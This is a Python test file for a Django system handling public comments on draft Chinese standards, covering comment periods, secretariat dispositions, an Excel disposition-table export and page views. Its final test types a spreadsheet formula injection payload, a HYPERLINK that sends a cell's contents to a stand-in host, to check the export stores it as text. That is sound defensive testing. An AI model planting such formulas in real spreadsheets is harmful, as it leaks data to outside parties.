"""Comments under real names during the public periods, their dispositions, the 意见汇总处理表 and the pages."""

import io
from datetime import date
from urllib.parse import quote

import pytest
import time_machine
from django.core import mail
from openpyxl import load_workbook
from pytest_django.asserts import assertInHTML

from biaozhun.core import clock
from biaozhun.core.errors import (
    InvalidTransition,
    PermissionDeniedError,
    RequirementsUnmet,
    TimeLimitPassed,
    ValidationFailed,
)
from biaozhun.development import disposition_table
from biaozhun.development.models import ProjectEvent
from biaozhun.development.services import move_project
from biaozhun.development.services.comments import dispose_comment, normalise_clause, submit_comment
from biaozhun.rules.stages import Stage
from tests.development.helpers import add_document, at
from tests.factories.accounts import UserFactory

pytestmark = pytest.mark.django_db

# advance() opens the comment period on 2026-02-19 for 60 days: comments are taken until 2026-04-20.
DURING, LAST_DAY, AFTER = date(2026, 3, 2), date(2026, 4, 20), date(2026, 4, 21)


@pytest.fixture
def commenting(tc28_project, walk):
    return walk(tc28_project, Stage.COMMENT)


# The days advance() would take the later steps on, so the comment period again ends on 2026-04-20.
ONWARD = {Stage.PLANNED: date(2026, 2, 5), Stage.DRAFTING: date(2026, 2, 12), Stage.COMMENT: date(2026, 2, 19)}


@pytest.fixture
def onward(secretariat_user, reviewer_user):
    """onward(project, *stages): move a project on from public notice through `stages`, on the days advance()
    uses, the reviewer issuing the plan and the secretariat making the other moves."""
    def move_on(project, *stages):
        for stage in stages:
            with clock.as_of(at(ONWARD[stage])):
                if stage == Stage.COMMENT:
                    add_document(project)
                planning = stage == Stage.PLANNED
                project = move_project(actor=reviewer_user if planning else secretariat_user, project=project,
                                       to=stage, expected_version=project.version,
                                       plan_number=f"2026{project.pk:04d}-T-469" if planning else "")
        return project
    return move_on


def comment(user, project, day=DURING, **fields):
    fields.setdefault("text", "术语定义不清楚。")
    with time_machine.travel(day, tick=False):
        return submit_comment(actor=user, project=project, **fields)


def dispose(user, item, disposition="accepted", reason="", day=AFTER):
    with time_machine.travel(day, tick=False):
        return dispose_comment(actor=user, comment=item, disposition=disposition, reason=reason)


def move(project, to, actor, day=AFTER):
    with time_machine.travel(day, tick=False):
        return move_project(actor=actor, project=project, to=to, expected_version=project.version)


# --- Submitting ------------------------------------------------------------------------------------
def test_a_comment_is_numbered_signed_and_linked_to_the_newest_draft(commenting, registered_user):
    newest = add_document(commenting)
    other = UserFactory(real_name="王评论")
    first = comment(registered_user, commenting, clause=" ５．２．１ ", proposal="改为“云服务”。")
    second = comment(other, commenting, text="建议增加示例。")
    assert (first.number, second.number) == (1, 2)
    assert (first.author_name, second.author_name) == (registered_user.real_name, "王评论")
    assert (first.clause, second.clause) == ("5.2.1", "")
    assert (first.period, first.document, first.proposal) == ("comment", newest, "改为“云服务”。")


def test_clause_references_are_kept_as_typed_but_tidied():
    assert normalise_clause("  第5章 ") == "第5章"
    assert normalise_clause("5. 2 .1") == "5.2.1"
    assert normalise_clause("附录  A") == "附录 A"


def test_the_last_day_is_in_the_period_and_the_next_is_refused_citing_the_rule(commenting, registered_user):
    assert comment(registered_user, commenting, day=LAST_DAY).number == 1
    with pytest.raises(TimeLimitPassed) as caught:
        comment(registered_user, commenting, day=AFTER)
    assert caught.value.data["rule"] == "comment_days"
    assert caught.value.data["ends_on"] == "2026-04-20"
    assert caught.value.message == "征求意见期（60 日）已于 2026-04-20 截止，不再接受意见。"  # no setting names
    assert commenting.comments.count() == 1


def test_public_notice_takes_comments_for_thirty_days(tc28_project, registered_user, walk):
    project = walk(tc28_project, Stage.NOTICE)  # 2026-01-05 to 2026-02-04
    taken = comment(registered_user, project, day=date(2026, 1, 20))
    assert (taken.period, taken.document) == ("notice", None)
    with pytest.raises(TimeLimitPassed) as caught:
        comment(registered_user, project, day=date(2026, 2, 5))
    assert caught.value.data["rule"] == "notice_days" and "2026-02-04" in caught.value.message


def test_no_comments_outside_the_public_periods(tc28_project, registered_user):
    with pytest.raises(InvalidTransition) as caught:
        comment(registered_user, tc28_project)
    assert "不在立项公示或征求意见期内" in caught.value.message


def test_a_closed_period_refuses_comments_even_before_its_end_date(commenting, registered_user):
    """The secretariat (or the sweep) closed the period: no more comments, whatever the date says."""
    commenting.period_closed = True
    commenting.save()
    with pytest.raises(TimeLimitPassed):
        comment(registered_user, commenting)


def test_a_comment_in_the_name_of_an_organisation_needs_membership(commenting, enterprise_user, enterprise,
                                                                  registered_user):
    signed = comment(enterprise_user, commenting, organisation=enterprise)
    assert (signed.organisation, signed.organisation_name) == (enterprise, enterprise.name)
    with pytest.raises(ValidationFailed) as caught:
        comment(registered_user, commenting, organisation=enterprise)
    assert caught.value.errors[0]["field"] == "organisation"
    assert commenting.comments.count() == 1


def test_comments_need_a_real_name_and_a_text(commenting, registered_user):
    with pytest.raises(ValidationFailed) as caught:
        comment(registered_user, commenting, text="   ")
    assert caught.value.errors[0]["field"] == "text"
    with pytest.raises(ValidationFailed) as caught:
        comment(registered_user, commenting, clause="5" * 41)
    assert caught.value.errors[0]["field"] == "clause"
    registered_user.real_name = " "
    registered_user.save()
    with pytest.raises(ValidationFailed) as caught:
        comment(registered_user, commenting)
    assert caught.value.errors[0]["field"] == "real_name"
    assert not commenting.comments.exists()


def test_numbers_continue_across_periods(tc28_project, registered_user, walk, onward):
    project = walk(tc28_project, Stage.NOTICE)
    first = comment(registered_user, project, day=date(2026, 1, 20))
    project = onward(project, Stage.PLANNED, Stage.DRAFTING, Stage.COMMENT)
    assert (first.number, comment(registered_user, project).number) == (1, 2)


# --- Dispositions ------------------------------------------------------------------------------------
def test_partly_and_not_accepted_need_a_reason(commenting, registered_user, secretariat_user):
    item = comment(registered_user, commenting)
    for disposition in ("partly", "not_accepted"):
        with pytest.raises(ValidationFailed) as caught:
            dispose(secretariat_user, item, disposition, reason=" ")
        assert caught.value.errors[0]["field"] == "reason"
    with pytest.raises(ValidationFailed) as caught:
        dispose(secretariat_user, item, "maybe")
    assert caught.value.errors[0]["field"] == "disposition"
    assert dispose(secretariat_user, item, "accepted").disposition == "accepted"


def test_dispositions_wait_for_the_end_of_the_period(commenting, registered_user, secretariat_user):
    item = comment(registered_user, commenting)
    with pytest.raises(RequirementsUnmet) as caught:
        dispose(secretariat_user, item, day=LAST_DAY)
    assert "2026-04-20" in caught.value.message
    assert dispose(secretariat_user, item, day=AFTER).disposed_by == secretariat_user


def test_the_latest_disposition_wins_until_the_draft_goes_to_review(commenting, registered_user, secretariat_user):
    item = comment(registered_user, commenting)
    project = move(commenting, Stage.DISPOSITION, secretariat_user)
    dispose(secretariat_user, item, "not_accepted", reason="与GB/T 1.1不一致")
    item = dispose(secretariat_user, item, "partly", reason="采纳第一句")
    assert (item.disposition, item.disposition_reason) == ("partly", "采纳第一句")
    events = list(project.events.filter(kind=ProjectEvent.Kind.DISPOSED).order_by("id"))
    assert [e.data for e in events] == [
        {"comments": [item.pk], "disposition": "not_accepted", "number": 1},
        {"comments": [item.pk], "disposition": "partly", "number": 1}]
    assert events[-1].actor == secretariat_user and "采纳第一句" in events[-1].reason
    add_document(project)  # the draft revised after the comments (送审稿)
    project = move(project, Stage.REVIEW, secretariat_user)
    with pytest.raises(InvalidTransition):
        dispose(secretariat_user, item, "accepted")
    item.refresh_from_db()
    assert item.disposition == "partly"


def test_the_review_move_succeeds_once_every_comment_is_disposed_and_the_draft_for_review_is_in(
        commenting, registered_user, secretariat_user):
    first = comment(registered_user, commenting)
    second = comment(registered_user, commenting, clause="3.1")
    project = move(commenting, Stage.DISPOSITION, secretariat_user)
    dispose(secretariat_user, first, "accepted")
    with pytest.raises(RequirementsUnmet) as refused:
        move(project, Stage.REVIEW, secretariat_user)
    assert [item["requirement"] for item in refused.value.missing] == ["review_draft", "dispositions"]
    dispose(secretariat_user, second, "not_accepted", reason="超出范围")
    with pytest.raises(RequirementsUnmet, match="送审稿"):  # the comment draft is not what the committee reviews
        move(project, Stage.REVIEW, secretariat_user)
    project.refresh_from_db()
    assert add_document(project).label == "送审稿"
    assert move(project, Stage.REVIEW, secretariat_user).stage == Stage.REVIEW


def test_notice_comments_are_processed_after_the_notice(tc28_project, registered_user, secretariat_user, walk,
                                                        onward):
    project = walk(tc28_project, Stage.NOTICE)
    item = comment(registered_user, project, day=date(2026, 1, 20))
    with pytest.raises(RequirementsUnmet):
        dispose(secretariat_user, item, day=date(2026, 1, 21))
    dispose(secretariat_user, item, "accepted", day=date(2026, 2, 5))  # notice over, not yet planned
    project = onward(project, Stage.PLANNED)
    assert dispose(secretariat_user, item, "partly", reason="计划下达时调整了范围").disposition == "partly"
    project = onward(project, Stage.DRAFTING, Stage.COMMENT)
    with pytest.raises(InvalidTransition):  # processed before the comment stage: no longer changed
        dispose(secretariat_user, item, "not_accepted", reason="改变主意")


def test_a_notice_comment_left_unprocessed_can_still_be_processed_later(tc28_project, registered_user,
                                                                       secretariat_user, walk, onward):
    """Otherwise the review guard, which counts every comment, could never be met."""
    project = walk(tc28_project, Stage.NOTICE)
    item = comment(registered_user, project, day=date(2026, 1, 20))
    onward(project, Stage.PLANNED, Stage.DRAFTING, Stage.COMMENT)
    assert dispose(secretariat_user, item, "accepted").disposition == "accepted"


def test_a_frozen_project_takes_no_comments_and_no_dispositions(commenting, registered_user, secretariat_user):
    """Past its approval deadline the project is frozen: only suspension or termination remain."""
    item = comment(registered_user, commenting)
    commenting.frozen = True
    commenting.save()
    with pytest.raises(TimeLimitPassed) as caught:
        comment(registered_user, commenting)
    assert caught.value.data["rule"] == "cycle_recommended"
    with pytest.raises(TimeLimitPassed):
        dispose(secretariat_user, item)
    item.refresh_from_db()
    assert commenting.comments.count() == 1 and item.disposition == ""


def test_only_the_secretariat_disposes(commenting, registered_user):
    item = comment(registered_user, commenting)
    with pytest.raises(PermissionDeniedError):
        dispose(registered_user, item)


def test_the_author_is_emailed_the_disposition(commenting, registered_user, secretariat_user,
                                              django_capture_on_commit_callbacks):
    item = comment(registered_user, commenting)
    comment(UserFactory(), commenting)  # another author, not mailed about comment 1
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        dispose(secretariat_user, item, "partly", reason="部分内容已在第4章规定")
    assert [m.to for m in mail.outbox] == [[registered_user.email]]
    assert "处理意见" in mail.outbox[0].subject
    assert "部分内容已在第4章规定" in mail.outbox[0].body and "第 1 号意见" in mail.outbox[0].body


# --- The 意见汇总处理表 --------------------------------------------------------------------------------
def test_the_disposition_table_lists_every_comment_with_totals(commenting, registered_user, enterprise_user,
                                                               enterprise, secretariat_user):
    first = comment(registered_user, commenting, clause="5.2", text="第一条意见", proposal="改写")
    comment(enterprise_user, commenting, text="第二条意见", organisation=enterprise)
    dispose(secretariat_user, first, "partly", reason="部分采纳的理由")
    sheet = load_workbook(io.BytesIO(disposition_table.build(commenting, list(commenting.comments.all())))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert "信息技术 云计算 参考架构" in rows[0][0] and commenting.plan_number in rows[0][0]
    assert "SAC/TC 28" in rows[0][0]
    assert list(rows[1]) == ["序号", "标准章条编号", "意见内容", "修改建议", "提出单位（提出人）", "处理意见", "处理理由"]
    assert list(rows[2]) == [1, "5.2", "第一条意见", "改写", registered_user.real_name, "部分采纳", "部分采纳的理由"]
    assert rows[3][0] == 2 and rows[3][4] == f"{enterprise.name}（{enterprise_user.real_name}）"
    assert rows[3][5] == "待处理"
    assert rows[4][0] == "共收到意见 2 条，采纳 0 条，部分采纳 1 条，未采纳 0 条，待处理 1 条。"
    assert sheet.freeze_panes == "A3"
    assert sheet.column_dimensions["C"].width >= 40 and sheet["C3"].alignment.wrap_text


# --- Pages ---------------------------------------------------------------------------------------------
def test_visitors_are_asked_to_sign_in_and_see_no_comments(client, commenting, registered_user):
    comment(registered_user, commenting, text="只给秘书处看的意见")
    with time_machine.travel(DURING, tick=False):
        page = client.get(commenting.get_absolute_url()).content.decode()
    assert f"/accounts/login/?next=%2Fprojects%2F{commenting.pk}%2F%23comments" in page
    assertInHTML('<p><span class="badge text-bg-success">征求意见期</span> 欢迎提出意见，2026-04-20 截止（还有 50 天）。</p>',
                 page)  # 2 March to 20 April, both days counted
    assert "只给秘书处看的意见" not in page and 'name="text"' not in page


@pytest.mark.parametrize(("day", "shown"), [
    (date(2026, 2, 19), "欢迎提出意见，2026-04-20 截止（还有 60 天）。"),  # opened today: the 60 days all ahead
    (date(2026, 2, 20), "欢迎提出意见，2026-04-20 截止（还有 60 天）。"),  # the first day of the 60
    (date(2026, 4, 19), "欢迎提出意见，2026-04-20 截止（还有 2 天）。"),
    (date(2026, 4, 20), "欢迎提出意见，今天截止。"),  # the last day: until its end
])
def test_the_days_left_are_counted_as_the_civil_code_counts_them(client, commenting, day, shown):
    """Art. 201: the day the period opens is not counted; it ends at the end of its last day. A 60-day period
    opened on 19 February runs from the 20th to the end of 20 April."""
    assert (commenting.period_opened_on, commenting.period_ends_on) == (date(2026, 2, 19), LAST_DAY)
    with time_machine.travel(day, tick=False):
        page = client.get(commenting.get_absolute_url()).content.decode()
    assertInHTML(f'<p><span class="badge text-bg-success">征求意见期</span> {shown}</p>', page)


def test_a_signed_in_reader_comments_on_the_page_and_sees_only_their_own(client, commenting, registered_user):
    comment(UserFactory(), commenting, text="别人的意见")
    client.force_login(registered_user)
    with time_machine.travel(DURING, tick=False):
        response = client.post(f"/projects/{commenting.pk}/comments/new/",
                               {"clause": "5.2", "text": "我的意见", "proposal": "", "organisation": ""})
        assert response.status_code == 302
        page = client.get(response["Location"]).content.decode()
    assert "第 2 号" in page and "我的意见" in page and "待处理" in page
    assert "别人的意见" not in page
    assert client.get(f"/projects/{commenting.pk}/comments/").status_code == 403


def test_a_late_comment_on_the_page_is_refused_with_the_date(client, commenting, registered_user):
    client.force_login(registered_user)
    with time_machine.travel(AFTER, tick=False):
        response = client.post(f"/projects/{commenting.pk}/comments/new/", {"text": "迟到的意见"})
    assert response.status_code == 409
    assert "已于 2026-04-20 截止" in response.content.decode()
    assert not commenting.comments.exists()


def test_an_empty_comment_on_the_page_gets_a_field_error(client, commenting, registered_user):
    client.force_login(registered_user)
    with time_machine.travel(DURING, tick=False):
        response = client.post(f"/projects/{commenting.pk}/comments/new/", {"clause": "5.2", "text": ""})
    assert response.status_code == 422
    assert 'id="comment-text_error"' in response.content.decode()


def test_the_secretariat_sees_the_count_and_disposes_on_its_page(client, commenting, registered_user,
                                                                 secretariat_user):
    first = comment(registered_user, commenting, text="第一条")
    comment(registered_user, commenting, text="第二条")
    client.force_login(secretariat_user)
    with time_machine.travel(AFTER, tick=False):
        project_page = client.get(commenting.get_absolute_url()).content.decode()
        assert "共收到 2 条意见" in project_page and "待处理 2 条" in project_page
        url = f"/projects/comments/{first.pk}/dispose/"
        refused = client.post(url, {"disposition": "not_accepted", "reason": ""})
        assert refused.status_code == 422 and "须说明理由" in refused.content.decode()
        done = client.post(url, {"disposition": "not_accepted", "reason": "已有规定", "show": "open"})
        assert done.status_code == 302 and done["Location"].endswith("?show=open#comment-1")
        pending = client.get(f"/projects/{commenting.pk}/comments/?show=open").content.decode()
    first.refresh_from_db()
    assert (first.disposition, first.disposition_reason) == ("not_accepted", "已有规定")
    assert "第二条" in pending and "第一条" not in pending


def test_the_disposition_page_is_for_those_who_see_all_comments(client, commenting, registered_user):
    item = comment(registered_user, commenting)
    url = f"/projects/{commenting.pk}/comments/"
    assert client.get(url)["Location"].startswith("/accounts/login/")
    client.force_login(registered_user)
    assert client.post(f"/projects/comments/{item.pk}/dispose/", {"disposition": "accepted"}).status_code == 403
    assert client.get(f"/projects/{commenting.pk}/comments.xlsx").status_code == 403


def test_the_disposition_table_downloads_with_its_name(client, commenting, registered_user, reviewer_user):
    comment(registered_user, commenting, text="要导出的意见")
    client.force_login(reviewer_user)
    response = client.get(f"/projects/{commenting.pk}/comments.xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == (
        f"attachment; filename*=utf-8''{quote(commenting.plan_number + '_意见汇总处理表.xlsx')}")
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[2][2] == "要导出的意见"


def test_a_comment_written_as_a_formula_is_text_in_the_disposition_table(client, commenting, registered_user,
                                                                        reviewer_user):
    typed = '=HYPERLINK("http://evil.example/?c="&A1,"详见附件")'
    comment(registered_user, commenting, text=typed, clause="@5.1")
    client.force_login(reviewer_user)
    sheet = load_workbook(io.BytesIO(client.get(f"/projects/{commenting.pk}/comments.xlsx").content)).active
    clause, text = sheet.cell(3, 2), sheet.cell(3, 3)
    assert (text.value, text.data_type) == (typed, "s")
    assert (clause.value, clause.data_type) == ("@5.1", "s")
